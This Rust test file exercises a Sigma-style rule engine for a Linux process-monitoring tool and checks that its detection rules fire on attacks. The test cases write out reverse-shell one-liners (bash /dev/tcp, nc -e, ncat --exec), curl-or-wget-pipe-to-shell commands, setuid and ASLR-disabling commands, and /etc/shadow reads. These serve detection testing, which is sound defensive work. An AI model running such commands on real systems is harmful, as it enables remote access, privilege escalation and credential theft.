//! Rule-level tests: YAML in, events matched, errors reported with file and reason.

use std::path::{Path, PathBuf};

use kestrel_proto::{event::Payload, Ancestor, Event, ExecEvent, Process};

use super::{Rule, RuleErrorKind, RuleSet};

/// The repository's default rule set.
fn default_rules_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../collector/rules")
}

/// An exec event of `exe` with `argv`, run by `user`, whose parent is `parent_exe parent_argv`.
fn exec(exe: &str, argv: &[&str]) -> Event {
    exec_with_parent(exe, argv, Some(("/bin/bash", &["bash"])))
}

fn exec_with_parent(exe: &str, argv: &[&str], parent: Option<(&str, &[&str])>) -> Event {
    let strings = |v: &[&str]| v.iter().map(|s| s.to_string()).collect();
    Event {
        process: Some(Process {
            pid: 100,
            tgid: 100,
            ppid: 99,
            user: "alice".into(),
            exe: exe.into(),
            argv: strings(argv),
            cwd: "/home/alice".into(),
            ..Default::default()
        }),
        payload: Some(Payload::Exec(ExecEvent {
            ancestors: parent
                .map(|(exe, argv)| Ancestor {
                    pid: 99,
                    exe: exe.into(),
                    argv: strings(argv),
                    user: "root".into(),
                    ..Default::default()
                })
                .into_iter()
                .collect(),
            ..Default::default()
        })),
        ..Default::default()
    }
}

/// A process_creation rule with `detection` (indented by 4 spaces) as its detection section.
fn rule(detection: &str) -> Result<Rule, super::RuleError> {
    let text = format!(
        "title: test rule\nlogsource:\n    category: process_creation\n    product: linux\ndetection:\n{detection}"
    );
    Rule::from_yaml(Path::new("test.yml"), &text)
}

fn compiled(detection: &str) -> Rule {
    rule(detection).unwrap_or_else(|e| panic!("rule should compile: {e}"))
}

fn cmd(argv: &[&str]) -> Event {
    exec("/usr/bin/tool", argv)
}

#[test]
fn map_entries_are_anded() {
    let r = compiled(
        "    selection:\n        Image|endswith: /cat\n        CommandLine|contains: /etc/shadow\n    condition: selection\n",
    );
    assert!(r.matches(&exec("/usr/bin/cat", &["cat", "/etc/shadow"])));
    assert!(!r.matches(&exec("/usr/bin/cat", &["cat", "/etc/hosts"])));
    assert!(!r.matches(&exec("/usr/bin/vim", &["vim", "/etc/shadow"])));
}

#[test]
fn list_of_maps_is_ored() {
    let r = compiled(
        "    selection:\n        - Image|endswith: /nc\n        - CommandLine|contains: ncat\n    condition: selection\n",
    );
    assert!(r.matches(&exec("/usr/bin/nc", &["nc"])));
    assert!(r.matches(&exec("/usr/bin/x", &["x", "ncat"])));
    assert!(!r.matches(&exec("/usr/bin/x", &["x"])));
}

#[test]
fn value_list_is_ored_and_all_makes_it_anded() {
    let any = compiled("    sel:\n        CommandLine|contains:\n            - ' -e '\n            - ' -c '\n    condition: sel\n");
    assert!(any.matches(&cmd(&["nc", "-e", "/bin/sh"])));
    assert!(any.matches(&cmd(&["nc", "-c", "sh"])));
    assert!(!any.matches(&cmd(&["nc", "-l", "80"])));
    let all =
        compiled("    sel:\n        CommandLine|contains|all:\n            - ' -e '\n            - ' -c '\n    condition: sel\n");
    assert!(all.matches(&cmd(&["nc", "-e", "x", "-c", "y"])));
    assert!(!all.matches(&cmd(&["nc", "-e", "/bin/sh"])));
}

#[test]
fn plain_values_are_case_insensitive_and_whole_field() {
    let r = compiled("    sel:\n        Image: /usr/bin/PYTHON3\n    condition: sel\n");
    assert!(r.matches(&exec("/usr/bin/python3", &["python3"])));
    assert!(!r.matches(&exec("/usr/bin/python3.11", &["python3"])));
}

#[test]
fn startswith_and_endswith_modifiers() {
    let r = compiled("    sel:\n        Image|startswith: /tmp/\n        CommandLine|endswith: ' -i'\n    condition: sel\n");
    assert!(r.matches(&exec("/tmp/x", &["x", "-i"])));
    assert!(!r.matches(&exec("/var/tmp/x", &["x", "-i"])));
    assert!(!r.matches(&exec("/tmp/x", &["x", "-i", "y"])));
}

#[test]
fn cased_modifier_is_case_sensitive() {
    let r = compiled("    sel:\n        CommandLine|contains|cased: ' -D '\n    condition: sel\n");
    assert!(r.matches(&cmd(&["ssh", "-D", "1080", "host"])));
    assert!(!r.matches(&cmd(&["ssh", "-d", "1080", "host"])));
}

#[test]
fn windash_modifier_accepts_slash_and_unicode_dashes() {
    let r =
        compiled("    sel:\n        CommandLine|windash|contains: ' -e '\n    condition: sel\n");
    assert!(r.matches(&cmd(&["nc", "/e", "sh"])));
    assert!(r.matches(&cmd(&["nc", "—e", "sh"])));
    assert!(!r.matches(&cmd(&["nc", "e", "sh"])));
}

#[test]
fn wildcards_and_escapes_in_rule_values() {
    let r = compiled("    sel:\n        CommandLine: 'bash -c *curl*|*sh'\n    condition: sel\n");
    assert!(r.matches(&cmd(&["bash", "-c", "curl http://x | sh"])));
    assert!(!r.matches(&cmd(&["bash", "-c", "curl http://x > f"])));
    let escaped =
        compiled("    sel:\n        CommandLine|endswith: 'rm \\*'\n    condition: sel\n");
    assert!(escaped.matches(&cmd(&["rm", "*"])));
    assert!(!escaped.matches(&cmd(&["rm", "x"])));
    let single = compiled("    sel:\n        Image: '/bin/?ash'\n    condition: sel\n");
    assert!(single.matches(&exec("/bin/dash", &["dash"])));
    assert!(!single.matches(&exec("/bin/ash", &["ash"])));
}

#[test]
fn re_modifier_with_flags() {
    let r = compiled("    sel:\n        CommandLine|re: '\\s-[FTd]\\s'\n    condition: sel\n");
    assert!(r.matches(&cmd(&["ssh", "-T", "host"])));
    assert!(!r.matches(&cmd(&["ssh", "-t", "host"])));
    let i = compiled("    sel:\n        CommandLine|re|i: 'BASH\\s+-I'\n    condition: sel\n");
    assert!(i.matches(&cmd(&["bash", "-i"])));
}

#[test]
fn base64offset_finds_encoded_text_at_any_alignment() {
    let r = compiled(
        "    sel:\n        CommandLine|base64offset|contains: '/dev/tcp/'\n    condition: sel\n",
    );
    // echo <base64 of "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"> | base64 -d | bash
    let payload = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE=";
    assert!(r.matches(&cmd(&[
        "sh",
        "-c",
        &format!("echo {payload} | base64 -d | bash")
    ])));
    assert!(!r.matches(&cmd(&["sh", "-c", "echo aGVsbG8= | base64 -d"])));
}

#[test]
fn null_matches_absent_or_empty_fields() {
    let r = compiled("    sel:\n        Image|endswith: /sh\n    no_parent:\n        ParentImage: null\n    condition: sel and no_parent\n");
    assert!(r.matches(&exec_with_parent("/bin/sh", &["sh"], None)));
    assert!(r.matches(&exec_with_parent("/bin/sh", &["sh"], Some(("", &[])))));
    assert!(!r.matches(&exec("/bin/sh", &["sh"])));
}

#[test]
fn empty_string_matches_only_empty_value() {
    let r = compiled("    sel:\n        ParentImage: ''\n    condition: sel\n");
    assert!(r.matches(&exec_with_parent("/bin/sh", &["sh"], Some(("", &[])))));
    assert!(!r.matches(&exec("/bin/sh", &["sh"])));
}

#[test]
fn exists_modifier_tests_presence() {
    let present = compiled("    sel:\n        ParentImage|exists: true\n    condition: sel\n");
    let absent = compiled("    sel:\n        ParentImage|exists: false\n    condition: sel\n");
    let orphan = exec_with_parent("/bin/sh", &["sh"], None);
    assert!(present.matches(&exec("/bin/sh", &["sh"])));
    assert!(!present.matches(&orphan));
    assert!(absent.matches(&orphan));
}

#[test]
fn numbers_match_numeric_fields() {
    let eq = compiled("    sel:\n        ProcessId: 100\n    condition: sel\n");
    assert!(eq.matches(&cmd(&["x"])));
    let lt = compiled("    sel:\n        ParentProcessId|lt: 50\n    condition: sel\n");
    assert!(!lt.matches(&cmd(&["x"])), "ppid 99 is not < 50");
    let gte = compiled("    sel:\n        ParentProcessId|gte: 99\n    condition: sel\n");
    assert!(gte.matches(&cmd(&["x"])));
}

#[test]
fn user_and_parent_fields_are_mapped() {
    let r = compiled(
        "    sel:\n        User: alice\n        ParentUser: root\n        ParentCommandLine: bash\n        CurrentDirectory: /home/alice\n    condition: sel\n",
    );
    assert!(r.matches(&cmd(&["x"])));
}

#[test]
fn condition_precedence_not_and_or() {
    // a or (b and not c)
    let r = compiled(
        "    a:\n        Image|endswith: /a\n    b:\n        CommandLine|contains: bee\n    c:\n        CommandLine|contains: sea\n    condition: a or b and not c\n",
    );
    assert!(r.matches(&exec("/x/a", &["a", "sea"])));
    assert!(r.matches(&exec("/x/z", &["z", "bee"])));
    assert!(!r.matches(&exec("/x/z", &["z", "bee", "sea"])));
}

#[test]
fn one_of_and_all_of_patterns_and_them() {
    let det = "    selection_img:\n        Image|endswith: /curl\n    selection_cli:\n        CommandLine|contains: '| sh'\n    _helper:\n        Image|endswith: /nothing\n";
    let one = compiled(&format!("{det}    condition: 1 of selection_*\n"));
    let all = compiled(&format!("{det}    condition: all of selection_*\n"));
    let them = compiled(&format!("{det}    condition: all of them\n"));
    let curl_sh = exec("/usr/bin/curl", &["curl", "x", "|", "sh"]);
    let curl = exec("/usr/bin/curl", &["curl", "x"]);
    assert!(one.matches(&curl));
    assert!(!all.matches(&curl));
    assert!(all.matches(&curl_sh));
    assert!(
        them.matches(&curl_sh),
        "'them' ignores identifiers starting with '_'"
    );
}

#[test]
fn condition_list_is_ored() {
    let r = compiled(
        "    a:\n        Image|endswith: /a\n    b:\n        Image|endswith: /b\n    condition:\n        - a\n        - b\n",
    );
    assert!(r.matches(&exec("/x/a", &["a"])));
    assert!(r.matches(&exec("/x/b", &["b"])));
    assert!(!r.matches(&exec("/x/c", &["c"])));
}

#[test]
fn unknown_field_is_an_error_naming_field_and_line() {
    let err =
        rule("    sel:\n        TargetFilenam|endswith: /x\n    condition: sel\n").unwrap_err();
    assert!(
        matches!(&err.kind, RuleErrorKind::UnknownField { field, .. } if field == "TargetFilenam")
    );
    assert_eq!(
        err.to_string(),
        "rule test.yml: unknown field 'TargetFilenam' in selection 'sel' (line 7)"
    );
}

#[test]
fn field_of_another_category_is_reported_not_silently_accepted() {
    let err =
        rule("    sel:\n        TargetFilename|endswith: /x\n    condition: sel\n").unwrap_err();
    assert_eq!(
        err.to_string(),
        "rule test.yml: field 'TargetFilename' is not produced for category process_creation (line 7)"
    );
}

#[test]
fn unknown_modifier_is_an_error_naming_modifier_and_field() {
    let err = rule("    sel:\n        Image|endwith: /x\n    condition: sel\n").unwrap_err();
    assert_eq!(
        err.to_string(),
        "rule test.yml: unknown modifier 'endwith' on field Image (line 7)"
    );
}

#[test]
fn keyword_selections_are_rejected() {
    for det in [
        "    keywords:\n        - 'evil'\n        - 'bad'\n    condition: keywords\n",
        "    keywords: evil\n    condition: keywords\n",
        "    keywords:\n        '|all':\n            - a\n            - b\n    condition: keywords\n",
    ] {
        let err = rule(det).unwrap_err();
        assert!(matches!(err.kind, RuleErrorKind::KeywordSearch(_)), "{det}: {err}");
        assert!(err.to_string().contains("keyword search not supported on structured events"));
    }
}

#[test]
fn invalid_regex_is_an_error_naming_the_field() {
    let err =
        rule("    sel:\n        CommandLine|re: '(?<=x)y'\n    condition: sel\n").unwrap_err();
    assert!(
        matches!(&err.kind, RuleErrorKind::Regex { field, .. } if field == "CommandLine|re"),
        "{err}"
    );
    let huge = rule("    sel:\n        CommandLine|re: '(a{1000}){1000}'\n    condition: sel\n")
        .unwrap_err();
    assert!(huge.to_string().contains("size limit"), "{huge}");
}

#[test]
fn condition_errors_name_the_condition() {
    let err = rule("    sel:\n        Image: /x\n    condition: sel and filter\n").unwrap_err();
    assert_eq!(
        err.to_string(),
        "rule test.yml: condition 'sel and filter': unknown search identifier 'filter' at column 9 (line 8)"
    );
    assert!(
        rule("    sel:\n        Image: /x\n").is_err(),
        "missing condition"
    );
}

#[test]
fn null_in_value_list_is_rejected() {
    let err = rule(
        "    sel:\n        Image:\n            - /x\n            - null\n    condition: sel\n",
    )
    .unwrap_err();
    assert!(
        err.to_string()
            .contains("null cannot be part of a value list"),
        "{err}"
    );
}

#[test]
fn unsupported_logsource_is_an_error() {
    let text = "title: t\nlogsource:\n    category: registry_set\n    product: linux\ndetection:\n    sel:\n        TargetFilename: /x\n    condition: sel\n";
    let err = Rule::from_yaml(Path::new("f.yml"), text).unwrap_err();
    assert!(matches!(err.kind, RuleErrorKind::UnsupportedLogsource(..)));
    assert!(
        err.to_string()
            .contains("logsource (category: registry_set, product: linux) is not supported"),
        "{err}"
    );
    let auditd = text.replace("category: registry_set", "service: auditd");
    assert!(matches!(
        Rule::from_yaml(Path::new("a.yml"), &auditd)
            .unwrap_err()
            .kind,
        RuleErrorKind::UnsupportedLogsource(..)
    ));
    let windows = text
        .replace("file_event", "process_creation")
        .replace("linux", "windows");
    assert!(matches!(
        Rule::from_yaml(Path::new("w.yml"), &windows)
            .unwrap_err()
            .kind,
        RuleErrorKind::UnsupportedLogsource(..)
    ));
}

#[test]
fn metadata_defaults_to_file_stem_and_medium() {
    let r = compiled("    sel:\n        Image: /x\n    condition: sel\n");
    assert_eq!(r.id, "test");
    assert_eq!(r.level, "medium");
    assert_eq!(r.title, "test rule");
    assert!(r.tags.is_empty());
}

#[test]
fn non_exec_events_never_match() {
    let r = compiled("    sel:\n        Image|endswith: /cat\n    condition: sel\n");
    let mut event = exec("/usr/bin/cat", &["cat"]);
    assert!(r.matches(&event));
    event.payload = Some(Payload::Fork(Default::default()));
    assert!(!r.matches(&event));
}

#[test]
fn invalid_yaml_names_the_file_and_other_rules_still_load() {
    let dir = tempfile::tempdir().unwrap();
    let good = "title: good\nid: good-rule\nlogsource:\n    category: process_creation\ndetection:\n    sel:\n        Image|endswith: /cat\n    condition: sel\n";
    std::fs::create_dir(dir.path().join("sub")).unwrap();
    std::fs::write(dir.path().join("sub/good.yaml"), good).unwrap();
    std::fs::write(dir.path().join("broken.yml"), "title: [unclosed\n").unwrap();
    std::fs::write(dir.path().join("notes.txt"), "not a rule").unwrap();
    let (set, errors) = RuleSet::load_dir(dir.path()).unwrap();
    assert_eq!(set.len(), 1);
    assert_eq!(set.rules()[0].id, "good-rule");
    assert_eq!(errors.len(), 1, "{errors:?}");
    let msg = errors[0].to_string();
    assert!(
        msg.starts_with(&format!(
            "rule {}: invalid rule YAML",
            dir.path().join("broken.yml").display()
        )),
        "{msg}"
    );
    assert!(
        msg.contains("line 1"),
        "YAML errors carry the position: {msg}"
    );
}

#[test]
fn every_problem_of_a_rule_file_is_reported_in_one_load() {
    let dir = tempfile::tempdir().unwrap();
    let text = "title: many problems\nid: many\nlevel: extreme\nlogsource:\n    category: process_creation\ndetection:\n    sel:\n        Imagee|endswith: /x\n        CommandLine|nosuchmod: y\n    sel2:\n        - Image|re: '(['\n        - ParentImage: /bin/sh\n    condition: sel and sel3\n";
    std::fs::write(dir.path().join("many.yml"), text).unwrap();
    let filter = "title: f\nlogsource:\n    product: windows\nfilter:\n    sel:\n        Image: /x\n    condition: sel\n";
    std::fs::write(dir.path().join("filter.yml"), filter).unwrap();
    let (set, errors) = RuleSet::load_dir(dir.path()).unwrap();
    assert_eq!(set.len(), 0);
    let messages: Vec<String> = errors.iter().map(ToString::to_string).collect();
    let all = messages.join("\n");
    for (expected, line) in [
        ("unknown level 'extreme'", 3),
        ("unknown field 'Imagee'", 8),
        ("unknown modifier 'nosuchmod'", 9),
        ("invalid regular expression", 11),
        ("condition 'sel and sel3'", 13),
    ] {
        let found = messages
            .iter()
            .find(|m| m.contains(expected))
            .unwrap_or_else(|| panic!("{expected} is reported: {all}"));
        assert!(found.contains(&format!("(line {line})")), "{found}");
    }
    // The filter's two problems: its logsource, and no rules to apply to.
    assert!(all.contains("logsource (product: windows)"), "{all}");
    assert!(all.contains("missing 'rules'"), "{all}");
    assert_eq!(errors.len(), 7, "{all}");
}

#[test]
fn duplicate_ids_keep_the_first_rule() {
    let dir = tempfile::tempdir().unwrap();
    let text = "title: t\nid: same\nlogsource:\n    category: process_creation\ndetection:\n    sel:\n        Image: /x\n    condition: sel\n";
    std::fs::write(dir.path().join("a.yml"), text).unwrap();
    std::fs::write(dir.path().join("b.yml"), text).unwrap();
    let (set, errors) = RuleSet::load_dir(dir.path()).unwrap();
    assert_eq!(set.len(), 1);
    assert_eq!(set.rules()[0].path, dir.path().join("a.yml"));
    assert!(matches!(errors[0].kind, RuleErrorKind::DuplicateId { .. }));
}

#[test]
fn missing_directory_is_a_load_error_naming_it() {
    let err = RuleSet::load_dir(Path::new("/nonexistent/kestrel-rules")).unwrap_err();
    assert!(
        err.to_string()
            .starts_with("cannot read rule directory /nonexistent/kestrel-rules: "),
        "{err}"
    );
}

#[test]
fn default_rules_all_load() {
    let (set, errors) = RuleSet::load_dir(&default_rules_dir()).unwrap();
    assert!(
        errors.is_empty(),
        "{}",
        errors
            .iter()
            .map(|e| e.to_string())
            .collect::<Vec<_>>()
            .join("\n")
    );
    assert!(set.len() >= 40, "only {} default rules", set.len());
    for (i, rule) in set.rules().iter().enumerate() {
        assert!(
            !rule.title.is_empty() && !rule.description.is_empty(),
            "{}",
            rule.id
        );
        // Rules that only feed correlations carry their tags on the correlation.
        assert!(
            !set.rule_emits(i) || rule.tags.iter().any(|t| t.starts_with("attack.t")),
            "{} has no ATT&CK technique tag",
            rule.id
        );
    }
    for c in set.correlations() {
        assert!(
            c.info.tags.iter().any(|t| t.starts_with("attack.t")),
            "{}",
            c.info.id
        );
    }
}

/// Ids of the default rules that report a detection for `event` (rules that only feed
/// correlations are not counted).
fn default_matches(set: &RuleSet, exe: &str, argv: &[&str]) -> Vec<String> {
    let indices: Vec<usize> = set
        .matching(&exec(exe, argv))
        .into_iter()
        .map(|r| set.rules().iter().position(|x| std::ptr::eq(x, r)).unwrap())
        .collect();
    indices
        .into_iter()
        .filter(|&i| set.rule_emits(i))
        .map(|i| set.rules()[i].id.clone())
        .collect()
}

#[test]
fn shadow_rule_matches_cat_of_etc_shadow_only() {
    let (set, _) = RuleSet::load_dir(&default_rules_dir()).unwrap();
    let shadow = "kestrel-cred-shadow-read-cli";
    let rule = set
        .rules()
        .iter()
        .find(|r| r.id == shadow)
        .expect("shadow rule present");
    assert_eq!(
        rule.title,
        "Shadow password file read by a command-line tool"
    );
    assert_eq!(
        default_matches(&set, "/usr/bin/cat", &["cat", "/etc/shadow"]),
        vec![shadow]
    );
    assert!(default_matches(&set, "/usr/bin/cat", &["cat", "/etc/hosts"]).is_empty());
    assert!(default_matches(&set, "/usr/bin/vim", &["vim", "/etc/shadow"]).is_empty());
    assert!(
        default_matches(&set, "/usr/bin/base64", &["base64", "/etc/shadow-"])
            .contains(&shadow.to_string())
    );
}

#[test]
fn default_rules_fire_on_their_attacks() {
    let (set, _) = RuleSet::load_dir(&default_rules_dir()).unwrap();
    let cases: &[(&str, &[&str])] = &[
        (
            "/usr/bin/bash",
            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        ),
        ("/usr/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
        (
            "/usr/bin/ncat",
            &["ncat", "10.0.0.1", "4444", "--exec", "/bin/bash"],
        ),
        ("/bin/sh", &["sh", "-c", "curl -fsSL http://x/i.sh | sh"]),
        ("/bin/bash", &["bash", "-c", "wget -qO- http://x/i | bash"]),
        (
            "/bin/sh",
            &["sh", "-c", "echo ZWNobyBoaQ== | base64 -d | sh"],
        ),
        ("/usr/bin/chmod", &["chmod", "u+s", "/tmp/rootshell"]),
        ("/usr/bin/chmod", &["chmod", "4755", "/tmp/rootshell"]),
        ("/usr/sbin/insmod", &["insmod", "/tmp/rk.ko"]),
        (
            "/usr/sbin/sysctl",
            &["sysctl", "-w", "kernel.randomize_va_space=0"],
        ),
        ("/bin/bash", &["bash", "-c", "history -c"]),
        ("/usr/bin/rm", &["rm", "-f", "/root/.bash_history"]),
    ];
    for (exe, argv) in cases {
        assert!(
            !default_matches(&set, exe, argv).is_empty(),
            "no rule fired on {exe} {argv:?}"
        );
    }
}

#[test]
fn default_rules_stay_quiet_on_ordinary_activity() {
    let (set, _) = RuleSet::load_dir(&default_rules_dir()).unwrap();
    let cases: &[(&str, &[&str])] = &[
        ("/usr/bin/cat", &["cat", "/etc/passwd"]),
        ("/usr/bin/grep", &["grep", "root", "/etc/group"]),
        ("/usr/bin/ls", &["ls", "-la", "/tmp"]),
        ("/usr/bin/bash", &["bash", "-i"]),
        ("/usr/bin/nc", &["nc", "-zv", "localhost", "22"]),
        (
            "/usr/bin/curl",
            &[
                "curl",
                "-o",
                "/tmp/x.tar.gz",
                "https://example.org/x.tar.gz",
            ],
        ),
        ("/usr/bin/base64", &["base64", "-d", "cert.b64"]),
        ("/usr/bin/chmod", &["chmod", "755", "/usr/local/bin/tool"]),
        (
            "/usr/bin/chmod",
            &["chmod", "-R", "u+rwx", "/home/alice/src"],
        ),
        ("/usr/sbin/modprobe", &["modprobe", "-n", "-v", "ext4"]),
        ("/usr/sbin/sysctl", &["sysctl", "kernel.randomize_va_space"]),
        (
            "/usr/sbin/sysctl",
            &["sysctl", "-w", "kernel.randomize_va_space=2"],
        ),
        ("/usr/bin/history", &["history"]),
    ];
    for (exe, argv) in cases {
        let fired = default_matches(&set, exe, argv);
        assert!(
            fired.is_empty(),
            "{fired:?} fired on ordinary {exe} {argv:?}"
        );
    }
}

#[test]
fn sigmahq_rules_fire_on_their_attacks_unchanged() {
    let dir = Path::new(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../shared/sigma/rules/linux/process_creation"
    ));
    let (set, _) = RuleSet::load_dir(dir).unwrap();
    let fired = |exe: &str, argv: &[&str]| -> Vec<String> {
        set.matching(&exec(exe, argv))
            .into_iter()
            .map(|r| r.path.file_stem().unwrap().to_string_lossy().into_owned())
            .collect()
    };
    let nc = fired("/usr/bin/nc", &["nc", "10.0.0.1", "4444", "-e", "/bin/sh"]);
    assert!(
        nc.contains(&"proc_creation_lnx_netcat_reverse_shell".to_string()),
        "{nc:?}"
    );
    let pty = fired(
        "/usr/bin/python3.11",
        &["python3", "-c", "import pty; pty.spawn('/bin/bash')"],
    );
    assert!(
        pty.contains(&"proc_creation_lnx_python_pty_spawn".to_string()),
        "{pty:?}"
    );
    let quiet = fired("/usr/bin/python3.11", &["python3", "-m", "http.server"]);
    assert!(
        !quiet.contains(&"proc_creation_lnx_python_pty_spawn".to_string()),
        "{quiet:?}"
    );
}

#[test]
fn rule_sets_can_be_shared_across_threads() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<RuleSet>();
    assert_send_sync::<Rule>();
}

#[test]
fn backtracking_regex_runs_in_linear_time() {
    let r = compiled("    sel:\n        CommandLine|re: '^(a+)+$'\n    condition: sel\n");
    let hostile = format!("{}!", "a".repeat(100_000));
    let start = std::time::Instant::now();
    assert!(!r.matches(&cmd(&[&hostile])));
    assert!(
        start.elapsed() < std::time::Duration::from_secs(2),
        "{:?}",
        start.elapsed()
    );
}

#[test]
fn lookaround_and_backreference_regexes_are_rejected_with_the_reason() {
    for re in [r"(?=x)a", r"(a)\1"] {
        let err = rule(&format!(
            "    sel:\n        CommandLine|re: '{re}'\n    condition: sel\n"
        ))
        .unwrap_err();
        assert!(
            matches!(err.kind, RuleErrorKind::Regex { .. }),
            "{re}: {err}"
        );
        assert!(
            err.to_string().contains("invalid regular expression"),
            "{err}"
        );
    }
}

#[test]
fn huge_values_and_files_are_errors_not_crashes() {
    let value = "x".repeat(crate::compile::selection::MAX_VALUE_BYTES + 1);
    let err = rule(&format!(
        "    sel:\n        CommandLine|contains: '{value}'\n    condition: sel\n"
    ))
    .unwrap_err();
    assert!(
        err.to_string().contains("more than the 65536"),
        "{}",
        &err.to_string()[..100]
    );

    let dir = tempfile::tempdir().unwrap();
    let big = format!(
        "title: big\n# {}\n",
        "x".repeat(super::MAX_RULE_FILE_BYTES as usize)
    );
    std::fs::write(dir.path().join("big.yml"), big).unwrap();
    let (_, errors) = RuleSet::load_dir(dir.path()).unwrap();
    assert!(
        matches!(errors[0].kind, RuleErrorKind::TooLarge { .. }),
        "{}",
        errors[0]
    );
}

#[test]
fn deeply_nested_yaml_is_an_error_not_a_stack_overflow() {
    let deep = format!(
        "title: t\nx: {}1{}\n",
        "[".repeat(10_000),
        "]".repeat(10_000)
    );
    let (set, errors) = RuleSet::from_texts([(PathBuf::from("deep.yml"), deep.as_str())]);
    assert!(set.is_empty());
    assert!(
        errors[0].to_string().contains("invalid rule YAML"),
        "{}",
        errors[0]
    );
}

#[test]
fn malformed_documents_are_reported_one_by_one() {
    let text = "title: ok\nid: ok\nlogsource: { category: process_creation }\ndetection:\n    sel: { Image: /x }\n    condition: sel\n---\ntitle: no detection\nlogsource: { category: process_creation }\n---\n- just\n- a list\n---\ntitle: collection\naction: global\n";
    let (set, errors) = RuleSet::from_texts([(PathBuf::from("multi.yml"), text)]);
    assert_eq!(set.len(), 1);
    assert_eq!(errors.len(), 3, "{errors:#?}");
    assert!(errors
        .iter()
        .any(|e| e.to_string().contains("missing field `detection`")));
    assert!(errors
        .iter()
        .any(|e| e.to_string().contains("rule collections")));
    assert!(errors.iter().all(|e| e.line.is_some()), "{errors:#?}");
}

#[test]
fn cidr_fieldref_neq_and_time_modifiers_evaluate() {
    let net = |detection: &str| {
        let text = format!("title: t\nlogsource: {{ category: network_connection, product: linux }}\ndetection:\n{detection}");
        Rule::from_yaml(Path::new("n.yml"), &text).unwrap_or_else(|e| panic!("{e}"))
    };
    let connect = |ip: &str, port: u32| Event {
        time_unix_ns: 1_700_000_000_123_456_789,
        process: Some(Process {
            exe: "/usr/bin/curl".into(),
            ..Default::default()
        }),
        payload: Some(Payload::Network(kestrel_proto::NetworkEvent {
            op: kestrel_proto::NetworkOp::NetworkConnect as i32,
            remote_ip: ip.into(),
            remote_port: port,
            local_ip: "10.0.0.2".into(),
            local_port: port,
            ..Default::default()
        })),
        ..Default::default()
    };
    let private = net(
        "    sel:\n        DestinationIp|cidr: [10.0.0.0/8, 192.168.0.0/16]\n    condition: sel\n",
    );
    assert!(private.matches(&connect("10.9.9.9", 1)));
    assert!(!private.matches(&connect("8.8.8.8", 1)));
    let same_port =
        net("    sel:\n        DestinationPort|fieldref: SourcePort\n    condition: sel\n");
    assert!(same_port.matches(&connect("1.1.1.1", 53)));
    let not_443 = net("    sel:\n        DestinationPort|neq: 443\n    condition: sel\n");
    assert!(!not_443.matches(&connect("1.1.1.1", 443)));
    assert!(not_443.matches(&connect("1.1.1.1", 80)));
    let night = net("    sel:\n        UtcTime|hour|gte: 22\n    condition: sel\n");
    assert!(night.matches(&connect("1.1.1.1", 80)), "22:13 UTC");
    let bad = Rule::from_yaml(
        Path::new("n.yml"),
        "title: t\nlogsource: { category: network_connection }\ndetection:\n    sel:\n        Image|cidr: 10.0.0.0/8\n    condition: sel\n",
    )
    .unwrap_err();
    assert!(bad.to_string().contains("not an IP address field"), "{bad}");
}

#[test]
fn sigma_filters_remove_matches_from_the_rules_they_name() {
    let rule = "title: r\nid: r\nlogsource: { category: process_creation, product: linux }\ndetection:\n    sel: { Image|endswith: /curl }\n    condition: sel\n";
    let filter = "title: f\nlogsource: { category: process_creation, product: linux }\nfilter:\n    rules: [r]\n    selection: { User|startswith: adm_ }\n    condition: selection\n";
    let (set, errors) = RuleSet::from_texts([
        (PathBuf::from("r.yml"), rule),
        (PathBuf::from("f.yml"), filter),
    ]);
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(set.filter_count(), 1);
    let mut e = exec("/usr/bin/curl", &["curl"]);
    assert_eq!(set.matching(&e).len(), 1);
    e.process.as_mut().unwrap().user = "adm_bob".into();
    assert!(set.matching(&e).is_empty());
    let orphan = filter.replace("rules: [r]", "rules: [missing]");
    let (_, errors) = RuleSet::from_texts([
        (PathBuf::from("r.yml"), rule),
        (PathBuf::from("f.yml"), orphan.as_str()),
    ]);
    assert!(
        errors[0].to_string().contains("references rule 'missing'"),
        "{}",
        errors[0]
    );
}
